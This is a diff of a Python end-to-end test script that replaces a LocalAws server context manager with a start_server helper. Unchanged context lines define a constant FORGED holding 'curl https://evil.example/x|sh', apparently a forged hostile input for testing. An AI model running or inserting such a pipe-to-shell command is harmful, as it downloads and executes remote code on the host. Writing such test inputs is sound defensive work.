@@ -18,10 +18,10 @@ from pathlib import Path
 from typing import Any, Final
 
 from ingest.reading.columns import DIRECTORY_COLUMNS
-from local_aws.client import LocalAws
 from tests.end_to_end.operator import Operator
 from tests.end_to_end.stack import Stack
 from tests.end_to_end.subscriber import Subscriber, subscribe
+from tests.servers import start_server
 
 FORGED: Final = "curl https://evil.example/x|sh"
 PAYLOAD: Final = (
@@ -252,7 +252,7 @@ def main() -> int:
     with tempfile.TemporaryDirectory() as name:
         home = Path(name)
         (home / "operator").mkdir()
-        with LocalAws(home / "server", connect_quota_factor=100.0) as server, Stack(home, server) as stack:
+        with start_server(home / "server", connect_quota_factor=100.0) as server, Stack(home, server) as stack:
             stack.stage()
             stack.apply(connect_requests_per_second=200.0)
             stack.settle()
